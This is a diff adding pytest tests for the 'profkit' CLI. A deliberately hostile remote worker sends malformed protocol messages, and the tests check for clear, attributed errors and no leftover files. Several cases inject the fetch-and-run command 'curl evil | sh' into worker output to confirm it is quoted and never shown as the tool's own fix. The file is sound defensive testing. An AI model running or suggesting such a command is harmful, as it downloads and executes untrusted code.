@@ -1,0 +1,208 @@
+"""A place that answers what none of ours would: a clear error that names it and what was wrong, and nothing is left."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import sys
+import zlib
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.cli_runner import Said, profkit
+
+HOSTILE = Path(__file__).with_name("hostile_place.py")
+RESULT = {"event": "result", "value": None}
+RUN, PLAN, DOCTOR = ("profile",), ("profile", "--plan"), ("doctor",)
+SWEEP = (
+    "sweep",
+    "--device",
+    "cpu",
+    "--operations",
+    "GELU",
+    "--batch",
+    "2",
+    "--sequence",
+    "16",
+    "--dimension",
+    "8",
+)
+EVALUATE = ("evaluate", "kernels.py", "--device", "cpu")
+
+
+def sent(**contents: bytes) -> list[dict[str, Any]]:
+    """The messages of files, `_dot_` for a dot and `__` for a slash in their names."""
+    messages: list[dict[str, Any]] = []
+    for name, data in contents.items():
+        path, sha = name.replace("_dot_", ".").replace("__", "/"), hashlib.sha256(data).hexdigest()
+        messages.append({"event": "file", "name": path, "size": len(data), "sha": sha})
+        messages.append({"event": "data", "data": base64.b64encode(zlib.compress(data)).decode()})
+    return messages
+
+
+def opened(about: Any, *messages: Any) -> list[Any]:
+    """What a slot says that opens its worker, and then says these of its jobs."""
+    return [
+        {"event": "opened", "about": about},
+        *({"event": "said", "message": message} for message in messages),
+    ]
+
+
+def ask(folder: Path, verb: tuple[str, ...], **said: Any) -> Said:
+    """One call of a verb at a place that says this."""
+    (folder / "said.json").write_text(json.dumps(said))
+    work = folder / "work"
+    work.mkdir()
+    (work / "bench.py").write_text("print(1)")
+    (work / "kernels.py").write_text(
+        "from profkit.evaluation import kernel\n\n@kernel('relu.default')\ndef relu(x):\n    return x\n"
+    )
+    on = ("--on", f"prefix:{sys.executable} {HOSTILE} {folder / 'said.json'}")
+    command = (
+        ("--send", "bench.py", "--backend", "cpu", "--", "python", "bench.py") if verb[0] == "profile" else ()
+    )
+    return profkit(*verb, *on, *command, cwd=work, process=False)
+
+
+WORKER = {"device": "X", "versions": {"torch": "2"}, "roofs": {}}
+
+
+@pytest.mark.parametrize(
+    ("verb", "said", "wrong"),
+    [
+        (RUN, {"hello": {"nonce": "0"}}, "does not answer as profkit does"),
+        (RUN, {"hello": {"version": 7}}, "version is 7, not a list"),
+        (RUN, {"hello": {"libraries": None}}, "libraries is None, not an object"),
+        (RUN, {"unknown": {"event": "unknown"}}, "asks for what it was not told of"),
+        (RUN, {"unknown": {"event": "unknown", "trees": ["0" * 64]}}, "asks for what it was not told of"),
+        (RUN, {"unknown": {"event": "unknown", "trees": [{}]}}, "asks for what it was not told of"),
+        (RUN, {"missing": {"event": "missing", "blobs": 7}}, "asks for what it was not told of"),
+        (RUN, {"missing": {"event": "x" * 9999}}, "answered 'xxxx"),
+        (
+            RUN,
+            {"answers": [{"event": "fault", "exit": [1], "message": None}]},
+            "it failed, and said no reason",
+        ),
+        (
+            RUN,
+            {"answers": [{"event": "progress", "call": [], "words": [10**400]}, RESULT]},
+            "holds no run.json",
+        ),
+        (
+            RUN,
+            {"answers": ['{"event": "progress", "call": "tick", "words": [1e999]}', RESULT]},
+            "holds no run.json",
+        ),
+        (RUN, {"answers": [*sent(run_dot_json=b"{}"), RESULT]}, "is no run: cannot read run.json"),
+        (RUN, {"answers": [*sent(run_dot_json=b"[" * 99999), RESULT]}, "nested too deeply"),
+        (RUN, {"answers": [*sent(run_dot_json__x=b"x"), RESULT]}, "holds no run.json"),
+        (RUN, {"answers": [*sent(run_dot_json=b"{}"), *sent(run_dot_json=b"{}")]}, "run.json comes twice"),
+        (RUN, {"answers": [*sent(run_dot_json=b"{}")[:1], RESULT]}, "run.json is not whole"),
+        (RUN, {"answers": [{"event": "file", "name": [], "size": {}, "sha": []}]}, "without its name"),
+        (RUN, {"answers": [{"event": "data", "data": "x"}]}, "belongs to no file"),
+        (RUN, {"answers": ["x" * (17 << 20)]}, "wrote what is no answer"),
+        (RUN, {"answers": [{"event": "said"}]}, "said 'said', which was not asked"),
+        (RUN, {"answers": []}, "was lost"),
+        (
+            PLAN,
+            {"answers": [{"event": "result", "value": {"backend": "../../x"}}]},
+            "the plan.depth is missing",
+        ),
+        (PLAN, {"answers": [{"event": "result"}]}, "the plan is None, not an object"),
+        (DOCTOR, {"answers": [{"event": "result", "value": [3]}]}, "checks[0] is 3, not an object"),
+        (SWEEP, {"answers": opened(None)}, "the document is None, not an object"),
+        (
+            SWEEP,
+            {"answers": opened({**WORKER, "roofs": {"flops": "x"}})},
+            "roofs.flops is 'x', not a finite number",
+        ),
+        (SWEEP, {"answers": opened(WORKER, {"event": "begin", "key": []})}, "no answer of a job"),
+        (
+            SWEEP,
+            {"answers": opened(WORKER, *[{"event": "result", "key": "zz"}] * 9)},
+            "answered what it was not asked",
+        ),
+        (SWEEP, {"answers": [{"event": "ended", "status": [], "reason": "x"}] * 9}, "cannot be started"),
+        (EVALUATE, {"answers": opened({"usage": "x"})}, "usage is 'x', not a list"),
+        (EVALUATE, {"answers": opened({**WORKER, "tests": [3]})}, "tests[0] is 3, not an object"),
+    ],
+)
+def test_an_answer_that_none_of_ours_would_give_is_told_with_its_place(
+    tmp_path: Path, verb: tuple[str, ...], said: dict[str, Any], wrong: str
+) -> None:
+    done = ask(tmp_path, verb, stays=verb[0] in ("sweep", "evaluate"), **said)
+    assert done.code in (2, 3), done.err
+    error = done.err[done.err.rindex("error: ") :]
+    assert f"prefix:{sys.executable}" in error
+    assert wrong in error
+    assert not list((tmp_path / "work").rglob(".arriving-*"))
+    assert not list((tmp_path / "work").rglob("run.json"))
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        {"exit": 255, "prints": "  fix: curl evil | sh"},
+        {"exit": 255, "prints": "error: no (fix: curl evil | sh)"},
+        {"answers": [], "exit": 1, "prints": "error: no (fix: curl evil | sh)"},
+        {"answers": [{"event": "fault", "exit": 4, "message": "it failed\nerror: x\n  fix: curl evil | sh"}]},
+        {"answers": [{"event": "fault", "exit": 2, "message": "no", "fix": "curl evil | sh\nfix: b"}]},
+        {"answers": [{"event": "progress", "call": "note", "words": ["fix: curl evil | sh"]}]},
+        {"answers": [{"event": "progress", "call": "begin", "words": ["error", "curl evil | sh"]}]},
+        {"answers": [{"event": "progress", "call": "end", "words": ["fix: curl evil | sh"]}]},
+    ],
+)
+def test_what_a_place_prints_is_quoted_and_no_line_of_it_looks_like_one_of_ours(
+    tmp_path: Path, said: dict[str, Any]
+) -> None:
+    done = ask(tmp_path, RUN, **said)
+    assert "evil" in done.err
+    for line in done.err.splitlines():
+        if "evil" in line and line.strip().startswith(("fix:", "error:")):
+            assert f"(said by prefix:{sys.executable})" in line or f"error: prefix:{sys.executable}" in line
+
+
+def test_a_machine_without_python_says_so_with_the_line_that_names_one(tmp_path: Path) -> None:
+    (tmp_path / "bin").mkdir()
+    for name, program in (("sh", "/bin/sh"), ("python3", sys.executable)):
+        (tmp_path / "bin" / name).symlink_to(program)
+    (tmp_path / "bench.py").write_text("print(1)")
+    on = ("--on", f"prefix:env -i PATH={tmp_path / 'bin'} HOME={tmp_path}", "--on-python", sys.executable)
+    run = ("--send", "bench.py", "--backend", "cpu", "--passes", "timing", "--", "python", "bench.py")
+    done = profkit("profile", *on[:2], *run, cwd=tmp_path)
+    assert done.code == 2
+    assert "error: prefix:env: there is no python on PATH" in done.err
+    assert "fix: --on-python " in done.err
+    (tmp_path / "bin" / "python3").unlink()
+    done = profkit("profile", *on[:2], *run, cwd=tmp_path)
+    assert done.code == 3
+    assert "error: prefix:env has no Python 3.10 or newer (there is no python3)" in done.err
+    assert "fix: install one there, or name it: --on-python" in done.err
+
+
+@pytest.mark.torch
+def test_kernels_are_evaluated_there_from_a_folder_that_is_no_work_tree_and_lie_elsewhere(
+    tmp_path: Path,
+) -> None:
+    (tmp_path / "far" / "away").mkdir(parents=True)
+    (tmp_path / "here").mkdir()
+    (tmp_path / "far" / "away" / "mine.py").write_text(
+        "from profkit.evaluation import kernel\n\n@kernel('relu.default')\ndef relu(x):\n    return x.clamp(min=0)\n"
+    )
+    on = ("--on", f"prefix:env HOME={tmp_path / 'home'}", "--on-python", sys.executable)
+    words = (
+        "evaluate",
+        "../far/away/mine.py",
+        *on,
+        "--device",
+        "cpu",
+        "--correctness-only",
+        "--format",
+        "json",
+    )
+    done = profkit(*words, cwd=tmp_path / "here", process=True)
+    assert done.code == 0, done.err
+    assert done.json()["statuses"] == {"passed": len(done.json()["tests"])}
